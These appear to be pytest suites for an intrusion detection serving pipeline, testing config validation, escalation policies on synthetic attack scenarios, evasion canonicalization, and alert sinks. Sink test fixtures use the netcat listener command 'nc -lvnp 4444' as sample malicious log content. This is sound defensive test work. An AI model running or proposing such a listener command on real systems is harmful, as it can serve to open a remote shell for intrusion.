    def test_actionable_messages(self, data, fragment):
        with pytest.raises(ConfigError) as excinfo:
            ServingConfig.from_dict(data)
        assert fragment in str(excinfo.value)

    def test_unknown_sink_scheme_names_known_schemes(self):
        with pytest.raises(ConfigError) as excinfo:
            SinkSpec(uri="kafka://broker:9092/alerts")
        message = str(excinfo.value)
        assert "unknown scheme 'kafka'" in message
        assert "jsonl" in message and "webhook" in message

    def test_uri_without_scheme_rejected(self):
        with pytest.raises(ConfigError, match="scheme"):
            SinkSpec(uri="alerts.jsonl")

    def test_programmatic_construction_validates_too(self):
        with pytest.raises(ConfigError, match="max_batch"):
            BatchConfig(max_batch=0)
        with pytest.raises(ConfigError, match="window_seconds"):
            SessionConfig(window_seconds=0)
        with pytest.raises(ConfigError, match="backoff_multiplier"):
            DeliveryPolicy(backoff_multiplier=0.5)

    def test_dataclasses_replace_revalidates(self):
        with pytest.raises(ConfigError, match="workers"):
            dataclasses.replace(BackendConfig(), workers=-2)

    def test_unknown_extension_rejected(self, tmp_path):
        path = tmp_path / "serve.yaml"
        path.write_text("batch: {}")
        with pytest.raises(ConfigError, match=r"\.toml or \.json"):
            ServingConfig.from_file(path)

    def test_missing_file_is_config_error(self, tmp_path):
        with pytest.raises(ConfigError, match="cannot read"):
            ServingConfig.from_file(tmp_path / "nope.toml")

    def test_unparseable_toml_is_config_error(self, tmp_path):
        path = tmp_path / "serve.toml"
        path.write_text("batch = [unclosed")
        with pytest.raises(ConfigError, match="does not parse"):
            ServingConfig.from_file(path)


class TestBackendResolution:
    def test_auto_resolves_by_worker_count(self):
        assert BackendConfig(kind="auto", workers=1).resolved_kind == "inline"
        assert BackendConfig(kind="auto", workers=4).resolved_kind == "process"
        assert BackendConfig(kind="threaded", workers=4).resolved_kind == "threaded"


class TestFromConfig:
    def test_builds_running_server_with_configured_knobs(self, stub_service):
        config = ServingConfig.from_dict(
            {
                "batch": {"max_batch": 4, "max_latency_ms": 5.0},
                "cache": {"size": 16, "ttl_seconds": 123.0},
                "session": {"window_seconds": 9.0, "escalation_threshold": 2},
                "sinks": ["ring://8"],
                "concurrency": 2,
            }
        )
        server = DetectionServer.from_config(stub_service, config)
        assert server.config == config
        assert server.batcher.max_batch == 4
        assert server.cache.capacity == 16
        assert server.cache.ttl_seconds == 123.0
        assert server.sessions.window_seconds == 9.0

        async def scenario():
            async with server:
                return await server.submit("evil thing", host="h1")

        result = asyncio.run(scenario())
        assert result.is_intrusion
        ring = server.sinks.sinks[0]
        assert isinstance(ring, RingBufferSink)
        assert ring.emitted == 1

    def test_defaults_when_no_config_given(self, stub_service):
        server = DetectionServer.from_config(stub_service)
        assert server.config == ServingConfig()

    def test_process_backend_without_bundle_is_actionable(self, stub_service):
        stub_service.source_dir = None
        config = ServingConfig.from_dict({"backend": {"kind": "process", "workers": 2}})
        with pytest.raises(ConfigError, match="source_dir"):
            DetectionServer.from_config(stub_service, config)

    @pytest.mark.parametrize("mode", ["sequence", "hybrid"])
    def test_sequence_mode_without_multiline_head_fails_fast(self, stub_service, mode):
        config = ServingConfig.from_dict({"session": {"mode": mode}})
        with pytest.raises(ConfigError, match="multi-line head"):
            DetectionServer.from_config(stub_service, config)

    def test_session_policy_reaches_the_aggregator(self, stub_service):
        config = ServingConfig.from_dict(
            {
                "session": {
                    "mode": "count",
                    "context_window": 5,
                    "context_max_gap_seconds": 42.0,
                    "max_hosts": 77,
                    "sequence_threshold": 0.9,
                }
            }
        )
        server = DetectionServer.from_config(stub_service, config)
        assert server.sessions.mode == "count"
        assert server.sessions.context_window == 5
        assert server.sessions.context_max_gap_seconds == 42.0
        assert server.sessions.max_hosts == 77
        assert server.sessions.sequence_threshold == 0.9
        assert server.session_policy == config.session


class TestBundleRecording:
    def test_save_load_round_trips_serving_config(self, demo_service, tmp_path):
        from repro.ids.pipeline import IntrusionDetectionService

        config = ServingConfig.from_dict(FULL_CONFIG)
        bundle = tmp_path / "bundle"
        demo_service.save(bundle, serving_config=config)
        assert load_recorded_config(bundle) == config
        restored = IntrusionDetectionService.load(bundle)
        assert restored.serving_config == config

    def test_unrecorded_bundle_loads_none(self, demo_bundle):
        assert load_recorded_config("/nonexistent/bundle") is None

    def test_invalid_recorded_config_warns_but_model_still_loads(
        self, demo_service, tmp_path
    ):
        """Deployment metadata must never make the model unloadable (a
        recorded config may use a sink scheme this process never
        registered, or keys from another version)."""
        from repro.ids.pipeline import IntrusionDetectionService

        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        meta_path = bundle / "service.json"
        meta = json.loads(meta_path.read_text())
        meta["serving_config"] = {"batch": {"max_batchh": 4}}
        meta_path.write_text(json.dumps(meta))

        with pytest.warns(UserWarning, match="ignoring invalid serving_config"):
            restored = IntrusionDetectionService.load(bundle)
        assert restored.serving_config is None
        assert restored.threshold == demo_service.threshold

    def test_from_config_records_into_bundle(self, demo_service, tmp_path):
        config = ServingConfig.from_dict({"sinks": ["ring://4"]})
        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        from repro.ids.pipeline import IntrusionDetectionService

        service = IntrusionDetectionService.load(bundle)
        DetectionServer.from_config(service, config)
        # the bundle now remembers this deployment ...
        assert load_recorded_config(bundle) == config
        # ... and a config-less from_config reproduces it
        server = DetectionServer.from_config(bundle)
        assert server.config == config
