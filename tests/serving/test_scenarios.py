"""Scenario-replay tests: escalation policies against labelled fleets.

Each test synthesizes a labelled multi-host stream with the loggen-based
:class:`~tests.serving.scenarios.ScenarioBuilder` and replays it through
a real :class:`DetectionServer`, asserting who escalates, when, and with
which status under the ``count`` / ``sequence`` / ``hybrid`` policies.
The flagship case is the low-and-slow attacker: invisible to the alert
*rate* policy, caught by the sequence stage.
"""

from repro.loggen import CampaignBuilder
from repro.serving import CanonicalizeConfig, DetectionServer, SessionConfig, serve_stream
from repro.serving.events import AlertStatus
from repro.tuning.multiline import SEPARATOR

from tests.serving.scenarios import EPOCH, OracleService, ScenarioBuilder, replay

BASE = EPOCH.timestamp()


def low_and_slow_scenario(seed=7):
    builder = ScenarioBuilder(seed=seed)
    builder.low_and_slow_attacker("h-slow", user="mallory", n=4, spacing=150.0)
    return builder.build("low-and-slow")


def burst_scenario(seed=11):
    builder = ScenarioBuilder(seed=seed)
    builder.attack_burst("h-burst", user="mallory", n=6, spacing=10.0)
    return builder.build("burst")


class TestLowAndSlow:
    """The flagship: an attacker pacing alerts under the count threshold."""

    def test_count_mode_misses_the_attack(self):
        report = replay(low_and_slow_scenario(), mode="count")
        # 4 alerts spread at 150 s never put 5 inside a 300 s window
        assert report.escalated == set()
        assert report.server.metrics.alerts == 4
        # stage 2 never runs under the count policy
        assert report.service.sequence_calls == []
        assert report.server.metrics.sequence_scored == 0

    def test_sequence_mode_catches_the_attack(self):
        report = replay(low_and_slow_scenario(), mode="sequence")
        assert report.escalated == {"h-slow"}
        session = report.session("h-slow")
        assert session.escalated_by == "sequence"
        # escalated on the second attack line, when the composed window
        # first corroborates (the first attack line is still in context)
        assert session.escalated_at == BASE + 150.0
        assert session.sequence_score == 0.9
        assert report.server.metrics.escalations == 1
        assert report.server.metrics.sequence_escalations == 1

    def test_escalating_alert_explains_itself(self):
        report = replay(low_and_slow_scenario(), mode="sequence")
        alerts = report.alerts_for("h-slow")
        assert [a.status for a in alerts] == [
            AlertStatus.OPEN,
            AlertStatus.ESCALATED,
            AlertStatus.ESCALATED,
            AlertStatus.ESCALATED,
        ]
        escalating = alerts[1]
        # the alert payload carries the composed context and its score,
        # so a sink can explain *why* the host escalated
        assert escalating.sequence_score == 0.9
        assert escalating.context is not None and SEPARATOR in escalating.context
        assert escalating.context.endswith(escalating.line)
        assert escalating.to_json()["sequence_score"] == 0.9
        assert escalating.to_json()["context"] == escalating.context

    def test_second_stage_runs_only_on_flagged_events(self):
        report = replay(low_and_slow_scenario(), mode="sequence")
        flagged = [r for r in report.results if r.is_intrusion]
        assert len(report.service.sequence_calls) == len(flagged) == 4
        assert report.server.metrics.sequence_scored == 4
        # benign camouflage lines were observed as context but never
        # pushed through the sequence head
        assert all(r.sequence_score is None for r in report.results if not r.is_intrusion)


class TestBurstAttacker:
    def test_both_policies_catch_a_burst(self):
        for mode in ("count", "sequence", "hybrid"):
            report = replay(burst_scenario(), mode=mode)
            assert report.escalated == {"h-burst"}, mode

    def test_sequence_escalates_earlier_than_count(self):
        count_at = replay(burst_scenario(), mode="count").session("h-burst").escalated_at
        seq_at = replay(burst_scenario(), mode="sequence").session("h-burst").escalated_at
        assert count_at == BASE + 40.0  # fifth alert fills the window
        assert seq_at == BASE + 10.0  # second alert corroborates the context
        assert seq_at < count_at

    def test_hybrid_takes_whichever_trigger_fires_first(self):
        by_sequence = replay(burst_scenario(), mode="hybrid").session("h-burst")
        assert by_sequence.escalated_by == "sequence"
        # with the sequence trigger effectively disabled, hybrid still
        # escalates through the count path
        by_count = replay(
            burst_scenario(), mode="hybrid", sequence_threshold=1.0
        ).session("h-burst")
        assert by_count.escalated_by == "count"
        assert by_count.escalated_at == BASE + 40.0


class TestBenignTraffic:
    def test_power_user_escalates_under_no_policy(self):
        builder = ScenarioBuilder(seed=3)
        builder.benign_power_user("h-dev", user="alice", role="developer", sessions=8)
        scenario = builder.build("power-user")
        for mode in ("count", "sequence", "hybrid"):
            report = replay(scenario, mode=mode)
            assert report.escalated == set(), mode
            assert report.server.metrics.alerts == 0

    def test_sequence_mode_ignores_false_alarm_bursts(self):
        """A burst of abnormal-yet-benign lines stampedes the count
        policy but not the sequence stage: the composed windows carry no
        malicious context."""
        builder = ScenarioBuilder(seed=5)
        builder.noisy_benign_burst("h-noisy", user="bob", n=6, spacing=10.0)
        scenario = builder.build("noisy-benign")

        count_report = replay(scenario, mode="count")
        assert count_report.escalated == {"h-noisy"}  # the false escalation

        seq_report = replay(scenario, mode="sequence")
        assert seq_report.escalated == set()
        # every false alarm *was* double-checked by the sequence stage
        assert len(seq_report.service.sequence_calls) == 6
        assert seq_report.session("h-noisy").sequence_score == 0.2


class TestLateralMovement:
    def test_per_host_counts_hide_the_hops_sequence_does_not(self):
        hosts = ["web-1", "web-2", "db-1"]
        builder = ScenarioBuilder(seed=13)
        builder.lateral_movement(hosts, user="mallory", per_host=2, spacing=60.0)
        scenario = builder.build("lateral")

        assert replay(scenario, mode="count").escalated == set()
        report = replay(scenario, mode="sequence")
        assert report.escalated == set(hosts)
        for host in hosts:
            assert report.session(host).escalated_by == "sequence"


class TestShardedReplayParity:
    """The shard-refactor acceptance: routing hosts across 4 shard
    runtimes must not change a single escalation verdict on the fleet
    scenarios — sharding is a throughput decomposition, not policy."""

    @staticmethod
    def _assert_parity(scenario, mode, **kwargs):
        single = replay(scenario, mode=mode, **kwargs)
        sharded = replay(scenario, mode=mode, shards=4, **kwargs)
        assert sharded.escalated == single.escalated
        # per-event verdicts agree event for event
        assert len(sharded.results) == len(single.results)
        for a, b in zip(single.results, sharded.results):
            assert (a.host, a.line, a.is_intrusion) == (b.host, b.line, b.is_intrusion)
        # every alert was delivered (zero silent drops across shards)
        flagged = sum(r.is_intrusion for r in sharded.results)
        stats = sharded.server.sinks.stats()
        assert all(s.dead_lettered == s.dropped == 0 for s in stats.values())
        assert sharded.server.metrics.alerts == flagged
        # and whoever escalated did so for the same reason
        for host in sharded.escalated:
            assert (
                sharded.session(host).escalated_by == single.session(host).escalated_by
            )

    def test_low_and_slow_parity(self):
        for mode in ("count", "sequence"):
            self._assert_parity(low_and_slow_scenario(), mode)

    def test_lateral_movement_parity(self):
        hosts = ["web-1", "web-2", "db-1"]
        builder = ScenarioBuilder(seed=13)
        builder.lateral_movement(hosts, user="mallory", per_host=2, spacing=60.0)
        scenario = builder.build("lateral")
        self._assert_parity(scenario, "sequence")

    def test_mixed_fleet_parity(self):
        builder = ScenarioBuilder(seed=21)
        builder.attack_burst("h-burst", user="eve", at=30.0)
        builder.low_and_slow_attacker("h-slow", user="mallory", at=0.0)
        builder.benign_power_user("h-dev", user="alice", at=0.0, sessions=6)
        builder.lateral_movement(["web-1", "web-2"], user="trudy", at=200.0, per_host=2)
        builder.background_fleet(n_lines=300)
        scenario = builder.build("mixed-fleet")
        for mode in ("count", "sequence", "hybrid"):
            self._assert_parity(scenario, mode)

    def test_sharded_replay_spreads_hosts(self):
        """The parity above is meaningful only if the fleet actually
        lands on several shards."""
        builder = ScenarioBuilder(seed=21)
        builder.background_fleet(n_lines=200)
        scenario = builder.build("fleet")
        report = replay(scenario, mode="count", shards=4)
        populated = [
            shard for shard in report.server.shards if shard.sessions.sessions()
        ]
        assert len(populated) >= 3


def evasion_scenario(seed=17, n=8):
    builder = ScenarioBuilder(seed=seed)
    builder.evasion_burst("h-evade", user="mallory", n=n, spacing=10.0)
    builder.benign_power_user("h-dev", user="alice", sessions=4)
    return builder.build("evasion")


def campaign_fixture(seed=19, count=3):
    campaigns = CampaignBuilder(seed=seed).build(count)
    builder = ScenarioBuilder(seed=seed)
    for index, campaign in enumerate(campaigns):
        builder.campaign(campaign, at=index * 500.0, spacing=20.0)
    builder.benign_power_user("h-dev", user="alice", sessions=4)
    return campaigns, builder.build("campaigns")


class TestEvasionCorpus:
    """The canonicalization acceptance: evasion variants that slip past
    the raw detector are caught once the canonicalization stage maps
    them back onto their signatured form."""

    def test_canonicalized_recall_strictly_beats_raw(self):
        scenario = evasion_scenario()
        raw = replay(scenario, mode="count")
        canonical = replay(scenario, mode="count", canonicalize=True)
        # the headline gap the whole stage exists for
        assert canonical.recall > raw.recall
        assert canonical.recall == 1.0
        assert raw.recall == 0.0
        # resolving variants must not cost precision
        assert canonical.precision == 1.0

    def test_raw_pipeline_misses_every_variant(self):
        report = replay(evasion_scenario(), mode="count")
        assert report.server.metrics.alerts == 0
        assert report.escalated == set()

    def test_canonicalized_pipeline_escalates_the_evader(self):
        report = replay(evasion_scenario(), mode="count", canonicalize=True)
        assert report.escalated == {"h-evade"}
        assert report.server.metrics.alerts == 8

    def test_canonicalize_metrics_account_the_rewrites(self):
        report = replay(evasion_scenario(), mode="count", canonicalize=True)
        snapshot = report.server.metrics.snapshot()
        assert snapshot["canonicalized"] >= 8
        assert snapshot["canonicalize_failures"] == 0
        assert snapshot["canonicalize_truncated"] == 0
        raw_snapshot = replay(evasion_scenario(), mode="count").server.metrics.snapshot()
        assert raw_snapshot["canonicalized"] == 0

    def test_sharded_canonicalized_replay_agrees(self):
        scenario = evasion_scenario()
        single = replay(scenario, mode="count", canonicalize=True)
        sharded = replay(scenario, mode="count", canonicalize=True, shards=4)
        assert sharded.escalated == single.escalated
        assert sharded.recall == single.recall

    def test_canonicalize_off_is_byte_identical_to_absent(self):
        """``enabled=false`` must reproduce today's pipeline exactly —
        same normalized lines, same scores, same verdicts."""
        scenario = evasion_scenario()
        reports = []
        for config in (None, CanonicalizeConfig(enabled=False)):
            service = OracleService.for_scenario(scenario)
            server = DetectionServer(
                service,
                max_latency_ms=5,
                session=SessionConfig(mode="count"),
                canonicalize=config,
            )
            results, server = serve_stream(
                service, list(scenario.events), concurrency=1, server=server
            )
            reports.append((results, service))
        (absent_results, absent_service), (off_results, off_service) = reports
        assert off_service.scored_batches == absent_service.scored_batches
        assert len(off_results) == len(absent_results)
        for a, b in zip(absent_results, off_results):
            assert (a.line, a.score, a.is_intrusion, a.cache_hit) == (
                b.line,
                b.score,
                b.is_intrusion,
                b.cache_hit,
            )


class TestCampaignReplay:
    def test_per_campaign_recall_flips_with_canonicalization(self):
        campaigns, scenario = campaign_fixture()
        raw = replay(scenario, mode="count")
        canonical = replay(scenario, mode="count", canonicalize=True)
        for campaign in campaigns:
            raw_outcome = raw.campaign_outcome(campaign)
            canon_outcome = canonical.campaign_outcome(campaign)
            assert raw_outcome.steps == len(campaign.steps)
            assert canon_outcome.recall == 1.0, campaign.name
            assert canon_outcome.precision == 1.0, campaign.name
            assert canon_outcome.recall > raw_outcome.recall, campaign.name

    def test_campaign_stages_all_alert_canonicalized(self):
        campaigns, scenario = campaign_fixture()
        report = replay(scenario, mode="count", canonicalize=True)
        for campaign in campaigns:
            outcome = report.campaign_outcome(campaign)
            assert outcome.caught == outcome.steps == len(campaign.steps)

    def test_benign_host_stays_quiet_under_canonicalization(self):
        _, scenario = campaign_fixture()
        report = replay(scenario, mode="count", canonicalize=True)
        assert report.alerts_for("h-dev") == []
        assert "h-dev" not in report.escalated


class TestMixedFleet:
    def test_interleaved_fleet_escalates_exactly_the_guilty_hosts(self):
        builder = ScenarioBuilder(seed=21)
        builder.attack_burst("h-burst", user="eve", at=30.0)
        builder.low_and_slow_attacker("h-slow", user="mallory", at=0.0)
        builder.benign_power_user("h-dev", user="alice", at=0.0, sessions=6)
        builder.lateral_movement(["web-1", "web-2"], user="trudy", at=200.0, per_host=2)
        # ambient simulator traffic: hundreds of benign lines across a
        # simulated fleet, interleaved with the attacks by timestamp
        builder.background_fleet(n_lines=300)
        scenario = builder.build("mixed-fleet")
        assert len(scenario.hosts) > 10  # the fleet really is in the stream
        guilty = {"h-burst", "h-slow", "web-1", "web-2"}

        count_report = replay(scenario, mode="count")
        assert count_report.escalated == {"h-burst"}

        seq_report = replay(scenario, mode="sequence")
        assert seq_report.escalated == guilty
        assert "h-dev" not in seq_report.escalated
        # ground truth sanity: the generator really labelled the stream
        assert scenario.dataset.n_malicious() == len(
            [r for r in seq_report.results if r.is_intrusion]
        )
