"""Tests for alert sinks, the URI registry, fan-out isolation, and the
severity bands."""

import json

import pytest

from repro.errors import ConfigError
from repro.serving import (
    AlertStatus,
    CallbackSink,
    DetectionAlert,
    JsonlSink,
    RingBufferSink,
    Severity,
    SinkFanout,
    SinkRegistry,
    TcpSocketSink,
    WebhookSink,
    build_sink,
)


def make_alert(alert_id=1, score=0.9, host="web-1"):
    return DetectionAlert(
        alert_id=alert_id,
        event_id=alert_id,
        host=host,
        line="nc -lvnp 4444",
        score=score,
        severity=Severity.from_score(score, 0.5),
        status=AlertStatus.OPEN,
        timestamp=1000.0,
    )


class TestSeverity:
    @pytest.mark.parametrize(
        ("score", "expected"),
        [
            (0.50, Severity.LOW),
            (0.60, Severity.LOW),
            (0.65, Severity.MEDIUM),
            (0.80, Severity.HIGH),
            (0.95, Severity.CRITICAL),
            (1.00, Severity.CRITICAL),
        ],
    )
    def test_bands_at_threshold_half(self, score, expected):
        assert Severity.from_score(score, 0.5) is expected

    def test_threshold_one_does_not_divide_by_zero(self):
        assert Severity.from_score(1.0, 1.0) is Severity.CRITICAL


class TestRingBufferSink:
    def test_keeps_most_recent(self):
        sink = RingBufferSink(capacity=2)
        for index in range(5):
            sink.emit(make_alert(alert_id=index))
        assert [a.alert_id for a in sink.alerts] == [3, 4]
        assert sink.emitted == 5


class TestBatchProtocol:
    def test_emit_many_default_loops_over_emit(self):
        ring = RingBufferSink()
        ring.emit_many([make_alert(alert_id=1), make_alert(alert_id=2)])
        assert [a.alert_id for a in ring.alerts] == [1, 2]
        assert ring.emitted == 2

    def test_open_and_flush_default_to_noops(self):
        ring = RingBufferSink()
        ring.open()
        ring.flush()


class TestJsonlSink:
    def test_round_trips_alert_fields(self, tmp_path):
        path = tmp_path / "alerts" / "out.jsonl"
        sink = JsonlSink(path)
        sink.emit(make_alert(score=0.93))
        sink.emit(make_alert(alert_id=2, score=0.55))
        sink.close()
        records = [json.loads(line) for line in path.read_text().splitlines()]
        assert len(records) == 2
        assert records[0]["severity"] == "critical"
        assert records[0]["status"] == "open"
        assert records[1]["alert_id"] == 2

    def test_close_without_emit_is_fine(self, tmp_path):
        JsonlSink(tmp_path / "never.jsonl").close()

    def test_each_batch_is_flushed_to_disk_before_close(self, tmp_path):
        """An alert the sink acknowledged must survive a crash: the file
        is readable after every emit batch, without any close()."""
        path = tmp_path / "out.jsonl"
        sink = JsonlSink(path)
        sink.emit(make_alert(alert_id=1))
        assert len(path.read_text().splitlines()) == 1
        sink.emit_many([make_alert(alert_id=2), make_alert(alert_id=3)])
        assert len(path.read_text().splitlines()) == 3
        sink.close()


class TestSinkUriRegistry:
    def test_ring_uri_with_capacity(self):
        sink = build_sink("ring://512")
        assert isinstance(sink, RingBufferSink)
        assert sink._ring.maxlen == 512

    def test_ring_uri_default_capacity(self):
        assert build_sink("ring://")._ring.maxlen == 1024

    @pytest.mark.parametrize("uri", ["ring://zero", "ring://0", "ring://-5"])
    def test_ring_uri_bad_capacity(self, uri):
        with pytest.raises(ConfigError, match="positive integer"):
            build_sink(uri)

    def test_jsonl_uri_absolute_path(self, tmp_path):
        sink = build_sink(f"jsonl://{tmp_path}/alerts/out.jsonl")
        assert isinstance(sink, JsonlSink)
        assert str(sink.path) == f"{tmp_path}/alerts/out.jsonl"

    def test_jsonl_uri_relative_path(self):
        assert str(build_sink("jsonl://alerts.jsonl").path) == "alerts.jsonl"

    def test_jsonl_uri_without_path_rejected(self):
        with pytest.raises(ConfigError, match="file path"):
            build_sink("jsonl://")

    def test_webhook_uri_builds_http_url(self):
        sink = build_sink("webhook://siem.example:8080/hooks/alerts?team=soc")
        assert isinstance(sink, WebhookSink)
        assert sink.url == "http://siem.example:8080/hooks/alerts?team=soc"

    def test_webhook_uri_defaults_root_path(self):
        assert build_sink("webhook://siem:8080").url == "http://siem:8080/"

    def test_webhook_uri_needs_host(self):
        with pytest.raises(ConfigError, match="host"):
            build_sink("webhook:///hooks")

    def test_tcp_uri_builds_socket_sink(self):
        sink = build_sink("tcp://collector.example:9000")
        assert isinstance(sink, TcpSocketSink)
        assert (sink.host, sink.port) == ("collector.example", 9000)

    @pytest.mark.parametrize("uri", ["tcp://collector", "tcp://collector:http"])
    def test_tcp_uri_needs_numeric_port(self, uri):
        with pytest.raises(ConfigError, match="port"):
            build_sink(uri)

    def test_webhook_https_variant(self):
        sink = build_sink("webhook+https://siem.example/alerts")
        assert sink.url == "https://siem.example/alerts"

    def test_unknown_scheme_lists_known_ones(self):
        with pytest.raises(ConfigError) as excinfo:
            build_sink("kafka://broker:9092")
        assert "known schemes: jsonl, ring, tcp, webhook, webhook+https" in str(
            excinfo.value
        )

    def test_scheme_is_case_insensitive(self):
        assert isinstance(build_sink("RING://8"), RingBufferSink)

    def test_custom_scheme_registration(self):
        registry = SinkRegistry()
        registry.register("null", lambda parts, uri: CallbackSink(lambda alert: None))
        assert isinstance(build_sink("null://", registry=registry), CallbackSink)
        with pytest.raises(ConfigError):  # custom registry has only null://
            build_sink("ring://8", registry=registry)


class TestCallbackSink:
    def test_invokes_callback(self):
        seen = []
        sink = CallbackSink(seen.append)
        sink.emit(make_alert())
        assert len(seen) == 1
        assert sink.emitted == 1


class TestSinkFanout:
    def test_delivers_to_all_sinks(self):
        ring_a, ring_b = RingBufferSink(), RingBufferSink()
        fanout = SinkFanout([ring_a])
        fanout.add(ring_b)
        fanout.emit(make_alert())
        assert ring_a.emitted == ring_b.emitted == 1
        assert fanout.delivered == 2

    def test_broken_sink_does_not_block_others(self):
        def explode(alert):
            raise OSError("disk full")

        ring = RingBufferSink()
        fanout = SinkFanout([CallbackSink(explode), ring])
        fanout.emit(make_alert())
        fanout.emit(make_alert(alert_id=2))
        assert ring.emitted == 2
        assert fanout.failures == {"CallbackSink[0]": 2}

    def test_same_class_sinks_keep_separate_failure_counters(self):
        def explode(alert):
            raise OSError("disk full")

        seen = []
        flaky, healthy = CallbackSink(explode), CallbackSink(seen.append)
        fanout = SinkFanout([flaky, healthy])
        fanout.emit(make_alert())
        fanout.emit(make_alert(alert_id=2))
        # two sinks of the same class must not share one counter
        assert fanout.failures == {"CallbackSink[0]": 2}
        assert len(seen) == 2


class TestTcpSocketSinkReconnect:
    """The flapping-collector contract: a send failure costs retries
    inside the sink (with capped exponential backoff), not the batch."""

    def test_refused_connections_are_retried_with_backoff(self, monkeypatch):
        import socket as socket_module

        server_side, client_side = socket_module.socketpair()
        attempts = []

        def create_connection(address, timeout=None):
            attempts.append(address)
            if len(attempts) < 3:
                raise ConnectionRefusedError("collector restarting")
            return client_side

        sleeps = []
        monkeypatch.setattr(
            "repro.serving.sinks.socket.create_connection", create_connection
        )
        monkeypatch.setattr("repro.serving.sinks.time.sleep", sleeps.append)

        sink = TcpSocketSink(
            "collector", 9000, max_attempts=4, backoff_ms=10.0, max_backoff_ms=15.0
        )
        try:
            sink.emit_many([make_alert(alert_id=1), make_alert(alert_id=2)])
            payload = server_side.recv(65536)
        finally:
            sink.close()
            server_side.close()

        assert len(attempts) == 3  # refused, refused, connected
        assert sink.emitted == 2 and sink.reconnects == 1
        # exponential, then capped: 10ms, then min(20, 15)ms
        assert sleeps == [0.010, 0.015]
        lines = [json.loads(line) for line in payload.decode().splitlines()]
        assert [line["alert_id"] for line in lines] == [1, 2]

    def test_flapping_server_costs_a_reconnect_not_the_batch(self):
        """Against a real socket server that RST-closes after one batch."""
        import socket as socket_module
        import struct
        import threading

        listener = socket_module.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        received = []
        first_conn_closed = threading.Event()

        def serve():
            # connection 1: read one batch, then slam the door with an
            # RST (SO_LINGER 0) — the flap
            conn, _ = listener.accept()
            received.append(conn.recv(65536))
            conn.setsockopt(
                socket_module.SOL_SOCKET,
                socket_module.SO_LINGER,
                struct.pack("ii", 1, 0),
            )
            conn.close()
            first_conn_closed.set()
            # connection 2: the reconnect; read until the client closes
            conn, _ = listener.accept()
            while chunk := conn.recv(65536):
                received.append(chunk)
            conn.close()

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()

        sink = TcpSocketSink("127.0.0.1", port, backoff_ms=5.0)
        try:
            sink.emit_many([make_alert(alert_id=1)])
            assert first_conn_closed.wait(5.0)
            import time as time_module

            time_module.sleep(0.05)  # let the RST reach our socket
            sink.emit_many([make_alert(alert_id=2)])  # must not raise
        finally:
            sink.close()
            thread.join(timeout=5.0)
            listener.close()

        assert sink.emitted == 2
        assert sink.reconnects == 1  # the flap is visible, the batch was not lost
        lines = [
            json.loads(line)
            for chunk in received
            for line in chunk.decode().splitlines()
        ]
        assert [line["alert_id"] for line in lines] == [1, 2]

    def test_exhausted_attempts_surface_the_error(self, monkeypatch):
        def always_refused(address, timeout=None):
            raise ConnectionRefusedError("collector gone")

        monkeypatch.setattr(
            "repro.serving.sinks.socket.create_connection", always_refused
        )
        monkeypatch.setattr("repro.serving.sinks.time.sleep", lambda delay: None)
        sink = TcpSocketSink("collector", 9000, max_attempts=3, backoff_ms=1.0)
        with pytest.raises(OSError):
            sink.emit_many([make_alert()])
        # the batch was not half-counted: the pipeline retries it intact
        assert sink.emitted == 0
