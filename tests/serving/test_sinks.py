"""Tests for alert sinks, fan-out isolation, and the severity bands."""

import json

import pytest

from repro.serving import (
    AlertStatus,
    CallbackSink,
    DetectionAlert,
    JsonlSink,
    RingBufferSink,
    Severity,
    SinkFanout,
)


def make_alert(alert_id=1, score=0.9, host="web-1"):
    return DetectionAlert(
        alert_id=alert_id,
        event_id=alert_id,
        host=host,
        line="nc -lvnp 4444",
        score=score,
        severity=Severity.from_score(score, 0.5),
        status=AlertStatus.OPEN,
        timestamp=1000.0,
    )


class TestSeverity:
    @pytest.mark.parametrize(
        ("score", "expected"),
        [
            (0.50, Severity.LOW),
            (0.60, Severity.LOW),
            (0.65, Severity.MEDIUM),
            (0.80, Severity.HIGH),
            (0.95, Severity.CRITICAL),
            (1.00, Severity.CRITICAL),
        ],
    )
    def test_bands_at_threshold_half(self, score, expected):
        assert Severity.from_score(score, 0.5) is expected

    def test_threshold_one_does_not_divide_by_zero(self):
        assert Severity.from_score(1.0, 1.0) is Severity.CRITICAL


class TestRingBufferSink:
    def test_keeps_most_recent(self):
        sink = RingBufferSink(capacity=2)
        for index in range(5):
            sink.emit(make_alert(alert_id=index))
        assert [a.alert_id for a in sink.alerts] == [3, 4]
        assert sink.emitted == 5


class TestJsonlSink:
    def test_round_trips_alert_fields(self, tmp_path):
        path = tmp_path / "alerts" / "out.jsonl"
        sink = JsonlSink(path)
        sink.emit(make_alert(score=0.93))
        sink.emit(make_alert(alert_id=2, score=0.55))
        sink.close()
        records = [json.loads(line) for line in path.read_text().splitlines()]
        assert len(records) == 2
        assert records[0]["severity"] == "critical"
        assert records[0]["status"] == "open"
        assert records[1]["alert_id"] == 2

    def test_close_without_emit_is_fine(self, tmp_path):
        JsonlSink(tmp_path / "never.jsonl").close()


class TestCallbackSink:
    def test_invokes_callback(self):
        seen = []
        sink = CallbackSink(seen.append)
        sink.emit(make_alert())
        assert len(seen) == 1
        assert sink.emitted == 1


class TestSinkFanout:
    def test_delivers_to_all_sinks(self):
        ring_a, ring_b = RingBufferSink(), RingBufferSink()
        fanout = SinkFanout([ring_a])
        fanout.add(ring_b)
        fanout.emit(make_alert())
        assert ring_a.emitted == ring_b.emitted == 1
        assert fanout.delivered == 2

    def test_broken_sink_does_not_block_others(self):
        def explode(alert):
            raise OSError("disk full")

        ring = RingBufferSink()
        fanout = SinkFanout([CallbackSink(explode), ring])
        fanout.emit(make_alert())
        fanout.emit(make_alert(alert_id=2))
        assert ring.emitted == 2
        assert fanout.failures == {"CallbackSink": 2}
