"""Scoring-backend tests: sharding, fault injection, and backend equivalence.

The stub services and loaders live at module level so they pickle by
reference into forked worker processes — nothing unpicklable crosses
the process boundary, exactly the contract ``ProcessPoolBackend``
imposes on real bundles.
"""

import asyncio
import os

import numpy as np
import pytest

from repro.serving import (
    BatchAborted,
    DetectionServer,
    InlineBackend,
    ProcessPoolBackend,
    ThreadedBackend,
    WorkerCrashError,
    serve_stream,
)
from repro.serving.backends import _split_shards
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS


def run(coro):
    return asyncio.run(coro)


class FixedScoreService:
    """Stub service scoring every line with one constant."""

    threshold = 0.5

    def __init__(self, score):
        self.score = score

    def preprocess(self, raw):
        line = " ".join(raw.split())
        return line or None

